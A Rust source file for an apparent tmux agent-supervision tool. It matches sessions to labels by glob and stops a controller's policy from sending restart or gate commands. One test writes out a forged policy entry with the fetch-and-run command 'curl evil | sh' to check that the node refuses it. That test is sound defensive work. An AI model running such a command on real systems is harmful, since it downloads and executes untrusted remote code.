//! Selectors: labels for sessions nobody tagged, given by matching what the node agent already
//! sees of a session (its name, its agent's program, its working directory, its tmux server),
//! so that an orchestrator's sessions are supervised without `@argus-*` options.
//!
//! Precedence, per label: a session's own tmux option (`@argus-restart`, ...) wins; otherwise the
//! first selector (in file order) whose every given key matches gives its labels. Selectors are
//! not merged: the first match gives all it has, later ones give nothing. The node agent tries
//! its own configuration's selectors first, then the controller policy's, which may give only
//! the labels in [`POLICY_LABELS`]: commands a node runs never come from the controller.

use globset::{GlobBuilder, GlobMatcher};
use serde::{Deserialize, Serialize};

use argus_proto::v1 as pb;

use crate::labels;

/// The labels a selector of the controller's policy may give. `restart` and `gate` are
/// commands the node runs: they come only from the node's own configuration or the session's
/// tmux options, so that a compromised controller is not a remote shell on every host.
pub const POLICY_LABELS: [&str; 4] = [
    labels::PROFILE,
    labels::PROVIDER,
    labels::ACCOUNT,
    labels::GROUP,
];

/// One `[[selectors]]` entry as written in the node agent's configuration: what to match (every
/// key given must match; at least one is needed) and the labels it gives (at least one).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SelectorSpec {
    /// Glob on the session name (`*` matches any run of characters, `/` included).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session: Option<String>,
    /// Glob on the agent's program: its process name (`comm`) or its whole command line.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub program: Option<String>,
    /// Path glob on the pane's working directory (`*` stays within one directory, `**` crosses).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    /// Path glob on the tmux server's socket path.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub socket: Option<String>,
    /// `@argus-profile` given to matching sessions.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub profile: Option<String>,
    /// `@argus-provider` given to matching sessions.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub provider: Option<String>,
    /// `@argus-account` given to matching sessions.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub account: Option<String>,
    /// `@argus-group` given to matching sessions.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub group: Option<String>,
    /// `@argus-restart` given to matching sessions (opts them into restart on death).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub restart: Option<String>,
    /// `@argus-gate` given to matching sessions.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub gate: Option<String>,
}

impl SelectorSpec {
    /// Refuses what a policy selector may not give (see [`POLICY_LABELS`]).
    pub fn check_policy(&self, index: usize) -> Result<(), SelectorError> {
        for (key, v) in [(labels::RESTART, &self.restart), (labels::GATE, &self.gate)] {
            if v.is_some() {
                return Err(SelectorError {
                    index,
                    key,
                    why: "a policy selector may not give a command: set it in the node agent's \
                          own [[selectors]] or as the session's tmux option"
                        .into(),
                });
            }
        }
        Ok(())
    }

    /// The wire form sent to node agents (a policy selector: no commands).
    pub fn to_pb(&self) -> pb::Selector {
        let or_empty = |v: &Option<String>| v.clone().unwrap_or_default();
        pb::Selector {
            session: or_empty(&self.session),
            program: or_empty(&self.program),
            cwd: or_empty(&self.cwd),
            socket: or_empty(&self.socket),
            labels: self
                .gives()
                .into_iter()
                .filter(|(name, _)| POLICY_LABELS.contains(name))
                .map(|(name, v)| (name.to_owned(), v))
                .collect(),
        }
    }

    /// The labels this selector gives, by label name, in [`labels::ALL`] order.
    fn gives(&self) -> Vec<(&'static str, String)> {
        [
            (labels::PROFILE, &self.profile),
            (labels::PROVIDER, &self.provider),
            (labels::ACCOUNT, &self.account),
            (labels::GROUP, &self.group),
            (labels::RESTART, &self.restart),
            (labels::GATE, &self.gate),
        ]
        .into_iter()
        .filter_map(|(name, v)| v.clone().map(|v| (name, v)))
        .collect()
    }
}

/// Why a selector was refused; the key is written as `selectors[INDEX].KEY`.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("selectors[{index}].{key}: {why}")]
pub struct SelectorError {
    /// The selector's position in the file (from 0).
    pub index: usize,
    /// The refused key.
    pub key: &'static str,
    /// Why.
    pub why: String,
}

/// What the node agent sees of one session, the input of [`Selectors::first_match`].
#[derive(Debug, Clone, Copy, Default)]
pub struct Seen<'a> {
    /// The session's name.
    pub session: &'a str,
    /// The agent's process name and command line, when an agent runs in the pane.
    pub program: Option<(&'a str, &'a str)>,
    /// The pane's working directory.
    pub cwd: &'a str,
    /// The tmux server's socket path.
    pub socket: &'a str,
}

/// A selector with its globs compiled.
#[derive(Debug, Clone)]
struct Compiled {
    session: Option<GlobMatcher>,
    program: Option<GlobMatcher>,
    cwd: Option<GlobMatcher>,
    socket: Option<GlobMatcher>,
    gives: Vec<(&'static str, String)>,
}

impl Compiled {
    fn matches(&self, seen: &Seen<'_>) -> bool {
        let is =
            |g: &Option<GlobMatcher>, value: &str| g.as_ref().is_none_or(|g| g.is_match(value));
        let program = self.program.as_ref().is_none_or(|g| {
            seen.program
                .is_some_and(|(comm, cmdline)| g.is_match(comm) || g.is_match(cmdline))
        });
        is(&self.session, seen.session)
            && program
            && is(&self.cwd, seen.cwd)
            && is(&self.socket, seen.socket)
    }
}

/// The node's selectors, compiled, in file order.
#[derive(Debug, Clone, Default)]
pub struct Selectors {
    entries: Vec<Compiled>,
}

/// One selector's match: its position and the labels it gives.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Match<'a> {
    /// The selector's position in the file (from 0).
    pub index: usize,
    /// The labels it gives (label name without the `@argus-` prefix, value).
    pub labels: &'a [(&'static str, String)],
}

impl Selectors {
    /// Validates and compiles `specs`; the error names the first bad key.
    pub fn compile(specs: &[SelectorSpec]) -> Result<Self, SelectorError> {
        let entries = specs
            .iter()
            .enumerate()
            .map(|(index, spec)| compile_one(index, spec))
            .collect::<Result<_, _>>()?;
        Ok(Self { entries })
    }

    /// True when there are no selectors.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// How many selectors there are.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// The selectors a controller sent (its policy's), checked again here: only
    /// [`POLICY_LABELS`] are taken, anything else is refused.
    pub fn from_policy(msg: &pb::Selectors) -> Result<Self, SelectorError> {
        let specs = msg
            .selectors
            .iter()
            .enumerate()
            .map(|(index, s)| {
                let glob = |g: &str| (!g.is_empty()).then(|| g.to_owned());
                let mut spec = SelectorSpec {
                    session: glob(&s.session),
                    program: glob(&s.program),
                    cwd: glob(&s.cwd),
                    socket: glob(&s.socket),
                    ..Default::default()
                };
                for (name, value) in &s.labels {
                    let slot = match name.as_str() {
                        labels::PROFILE => &mut spec.profile,
                        labels::PROVIDER => &mut spec.provider,
                        labels::ACCOUNT => &mut spec.account,
                        labels::GROUP => &mut spec.group,
                        _ => {
                            return Err(SelectorError {
                                index,
                                key: "labels",
                                why: format!(
                                    "a policy selector may give only {POLICY_LABELS:?}, not \
                                     {name:?}"
                                ),
                            });
                        }
                    };
                    *slot = Some(value.clone());
                }
                Ok(spec)
            })
            .collect::<Result<Vec<_>, _>>()?;
        Self::compile(&specs)
    }

    /// The first selector whose every given key matches `seen`.
    pub fn first_match(&self, seen: &Seen<'_>) -> Option<Match<'_>> {
        self.entries
            .iter()
            .enumerate()
            .find(|(_, c)| c.matches(seen))
            .map(|(index, c)| Match {
                index,
                labels: &c.gives,
            })
    }
}

fn compile_one(index: usize, spec: &SelectorSpec) -> Result<Compiled, SelectorError> {
    let err = |key: &'static str, why: String| SelectorError { index, key, why };
    // Names and command lines are not paths: `*` crosses `/` there. Directories and sockets
    // are: `*` stays within one directory, `**` crosses.
    let glob = |key: &'static str, g: &Option<String>, path: bool| {
        g.as_deref()
            .map(|g| {
                if g.trim().is_empty() {
                    return Err(err(key, "an empty glob matches nothing useful".into()));
                }
                // `**` means "any directories" only in a path; in a name it is just `*` (globset
                // would read `**/` as "maybe no directory" and match a name without the `/`).
                let mut text = g.to_owned();
                while !path && text.contains("**") {
                    text = text.replace("**", "*");
                }
                GlobBuilder::new(&text)
                    .literal_separator(path)
                    .backslash_escape(true)
                    .build()
                    .map(|g| g.compile_matcher())
                    .map_err(|e| err(key, format!("{g:?} is not a glob: {e}")))
            })
            .transpose()
    };
    let compiled = Compiled {
        session: glob("session", &spec.session, false)?,
        program: glob("program", &spec.program, false)?,
        cwd: glob("cwd", &spec.cwd, true)?,
        socket: glob("socket", &spec.socket, true)?,
        gives: spec.gives(),
    };
    if [
        &compiled.session,
        &compiled.program,
        &compiled.cwd,
        &compiled.socket,
    ]
    .iter()
    .all(|g| g.is_none())
    {
        return Err(err(
            "session",
            "a selector needs at least one of session, program, cwd, socket (one that matches \
             every session would adopt editors and shells too)"
                .into(),
        ));
    }
    if compiled.gives.is_empty() {
        return Err(err(
            "profile",
            "a selector gives nothing: set at least one of profile, provider, account, group, \
             restart, gate"
                .into(),
        ));
    }
    for (name, value) in &compiled.gives {
        let key = *name;
        let bad = match key {
            labels::RESTART => crate::command::Action::restart(value, "").is_err(),
            labels::GATE => crate::command::Action::gate(value, 0).is_err(),
            _ => value.is_empty() || value.chars().any(crate::command::is_refused),
        };
        if bad || value.trim().is_empty() {
            return Err(err(
                key,
                format!("{value:?} must be non-empty, on one line, without control characters"),
            ));
        }
    }
    Ok(compiled)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn spec(toml_text: &str) -> Vec<SelectorSpec> {
        #[derive(Deserialize)]
        struct File {
            selectors: Vec<SelectorSpec>,
        }
        toml::from_str::<File>(toml_text).expect("parses").selectors
    }

    fn seen<'a>(session: &'a str, program: Option<(&'a str, &'a str)>, cwd: &'a str) -> Seen<'a> {
        Seen {
            session,
            program,
            cwd,
            socket: "/tmp/tmux-1000/default",
        }
    }

    #[test]
    fn every_given_key_must_match_and_the_first_match_wins() {
        let s = Selectors::compile(&spec(
            r#"
            [[selectors]]
            session = "claudesquad_*"
            program = "claude"
            group = "squad"
            restart = "claude --continue"

            [[selectors]]
            cwd = "/home/*/.agent-orchestrator/*/worktrees/**"
            group = "ao"

            [[selectors]]
            session = "*"
            program = "*aider*"
            profile = "aider"
            "#,
        ))
        .expect("valid");
        let m = s
            .first_match(&seen(
                "claudesquad_fix-login",
                Some(("claude", "claude")),
                "/src",
            ))
            .expect("matches");
        assert_eq!(m.index, 0);
        assert_eq!(
            m.labels,
            &[
                (labels::GROUP, "squad".to_owned()),
                (labels::RESTART, "claude --continue".to_owned())
            ]
        );
        // The name matches but the program does not: the first selector is out.
        assert!(
            s.first_match(&seen("claudesquad_x", Some(("vim", "vim x")), "/src"))
                .is_none()
        );
        // No agent: a program glob never matches.
        assert!(
            s.first_match(&seen("claudesquad_x", None, "/src"))
                .is_none()
        );
        let m = s
            .first_match(&seen(
                "a3b4c5d6e7f8-int-1",
                Some(("node", "node claude")),
                "/home/u/.agent-orchestrator/a3b4c5d6e7f8-integrator/worktrees/int-1/src",
            ))
            .expect("cwd matches");
        assert_eq!(m.index, 1);
        // `*` in a path glob stays within one directory.
        assert!(
            s.first_match(&seen(
                "x",
                None,
                "/home/u/extra/.agent-orchestrator/h/worktrees/w"
            ))
            .is_none()
        );
        // The command line counts too.
        let m = s
            .first_match(&seen(
                "w",
                Some(("python3", "python3 -m aider --model x")),
                "/",
            ))
            .expect("command line matches");
        assert_eq!(m.index, 2);
    }

    #[test]
    fn socket_globs_match_the_server() {
        let s = Selectors::compile(&spec(
            "[[selectors]]\nsocket = \"/tmp/tmux-*/agents\"\nprovider = \"anthropic\"",
        ))
        .expect("valid");
        let mut w = seen("any", None, "/");
        assert!(s.first_match(&w).is_none());
        w.socket = "/tmp/tmux-1000/agents";
        assert_eq!(s.first_match(&w).map(|m| m.index), Some(0));
    }

    #[test]
    fn bad_selectors_name_their_key() {
        for (text, key) in [
            ("[[selectors]]\ngroup = \"g\"", "selectors[0].session"),
            ("[[selectors]]\nsession = \"a*\"", "selectors[0].profile"),
            (
                "[[selectors]]\nsession = \"a[\"\ngroup = \"g\"",
                "selectors[0].session",
            ),
            (
                "[[selectors]]\ncwd = \"/x\"\nrestart = \"a\\nb\"",
                "selectors[0].restart",
            ),
            (
                "[[selectors]]\ncwd = \"/x\"\ngate = \" \"",
                "selectors[0].gate",
            ),
            (
                "[[selectors]]\nprogram = \"\"\ngroup = \"g\"",
                "selectors[0].program",
            ),
        ] {
            let e = Selectors::compile(&spec(text)).expect_err(text);
            assert!(e.to_string().starts_with(key), "{text}: {e}");
        }
        let e = toml::from_str::<SelectorSpec>("sesion = \"a\"").expect_err("unknown key");
        assert!(e.to_string().contains("sesion"), "{e}");
    }

    #[test]
    fn policy_selectors_travel_without_commands() {
        let specs =
            spec("[[selectors]]\nsession = \"agent-*\"\ngroup = \"night\"\nprofile = \"codex\"");
        specs[0].check_policy(0).expect("no command");
        let wire = pb::Selectors {
            selectors: specs.iter().map(SelectorSpec::to_pb).collect(),
        };
        let s = Selectors::from_policy(&wire).expect("valid");
        let m = s.first_match(&seen("agent-7", None, "/")).expect("matches");
        assert_eq!(
            m.labels,
            &[
                (labels::PROFILE, "codex".to_owned()),
                (labels::GROUP, "night".to_owned())
            ]
        );
        // A command is refused at the policy and again at the node.
        let with_restart = spec("[[selectors]]\nsession = \"a*\"\nrestart = \"sh\"");
        let e = with_restart[0].check_policy(3).expect_err("a command");
        assert!(e.to_string().starts_with("selectors[3].restart"), "{e}");
        let mut forged = wire.clone();
        forged.selectors[0]
            .labels
            .insert("restart".into(), "curl evil | sh".into());
        let e = Selectors::from_policy(&forged).expect_err("a forged command");
        assert!(e.to_string().contains("restart"), "{e}");
    }

    /// A reference matcher for globs of literals and `*` only, on names (where `*` crosses `/`).
    fn reference(glob: &[Option<char>], name: &[char]) -> bool {
        match glob.split_first() {
            None => name.is_empty(),
            Some((None, rest)) => (0..=name.len()).any(|i| reference(rest, &name[i..])),
            Some((Some(c), rest)) => name.first() == Some(c) && reference(rest, &name[1..]),
        }
    }

    /// Characters of generated names and globs: letters, separators, `/`.
    fn alphabet() -> impl Strategy<Value = char> {
        proptest::sample::select(vec!['a', 'b', '-', '/', '_'])
    }

    proptest! {
        #[test]
        fn name_globs_agree_with_a_reference_matcher(
            // `None` is a `*`.
            glob in proptest::collection::vec(proptest::option::weighted(0.7, alphabet()), 0..8),
            name in proptest::collection::vec(alphabet(), 0..10),
        ) {
            let text: String = glob.iter().map(|c| c.unwrap_or('*')).collect();
            prop_assume!(!text.trim().is_empty());
            let s = Selectors::compile(&[SelectorSpec {
                session: Some(text.clone()),
                group: Some("g".into()),
                ..Default::default()
            }]).expect("a glob of literals and stars is valid");
            let name: String = name.into_iter().collect();
            let chars: Vec<char> = name.chars().collect();
            prop_assert_eq!(
                s.first_match(&seen(&name, None, "/")).is_some(),
                reference(&glob, &chars),
                "glob {:?} name {:?}", text, name
            );
        }

        #[test]
        fn a_match_gives_exactly_the_labels_written(
            profile in proptest::option::of("[a-z]{1,8}"),
            group in proptest::option::of("[a-z]{1,8}"),
            restart in proptest::option::of("[a-z]{1,8}( --[a-z]{1,5})?"),
        ) {
            prop_assume!(profile.is_some() || group.is_some() || restart.is_some());
            let spec = SelectorSpec {
                session: Some("*".into()),
                profile: profile.clone(),
                group: group.clone(),
                restart: restart.clone(),
                ..Default::default()
            };
            let s = Selectors::compile(std::slice::from_ref(&spec)).expect("valid");
            let m = s.first_match(&seen("any", None, "/")).expect("matches");
            let got: std::collections::BTreeMap<_, _> = m.labels.iter().cloned().collect();
            prop_assert_eq!(got.get(labels::PROFILE), profile.as_ref());
            prop_assert_eq!(got.get(labels::GROUP), group.as_ref());
            prop_assert_eq!(got.get(labels::RESTART), restart.as_ref());
            let given = [&profile, &group, &restart].iter().filter(|v| v.is_some()).count();
            prop_assert_eq!(got.len(), given);
        }
    }
}
